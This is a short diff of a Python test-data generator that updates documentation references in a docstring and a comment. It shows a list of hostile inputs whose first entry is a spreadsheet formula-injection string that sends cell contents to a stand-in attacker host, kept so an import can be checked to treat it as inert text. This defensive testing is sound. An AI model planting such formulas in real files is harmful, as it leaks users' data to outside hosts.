@@ -2,7 +2,7 @@
 
 Read-only helpers. Long comment cells are built once per generator run from a small vocabulary and
 reused with a per-record variation line, so realistic scale (~2.5 million physical lines,
-DOMAIN.md §1) costs string concatenation, not random text per line.
+docs/DOMAIN.md, “The system”) costs string concatenation, not random text per line.
 """
 
 from __future__ import annotations
@@ -26,7 +26,7 @@ TOWNS = (
 )
 KINDS = ("Academy", "College", "Sixth Form College", "High School", "Grammar School", "School")
 
-# SPEC.md §9: malformed inputs include formula-injection strings and SQL in text fields; they
+# docs/ARCHITECTURE.md, “Quality bars”: malformed inputs include formula-injection strings and SQL in text fields; they
 # must survive the import as inert text.
 HOSTILE = (
     '=HYPERLINK("http://evil.example/x?d="&A1,"Click here")',
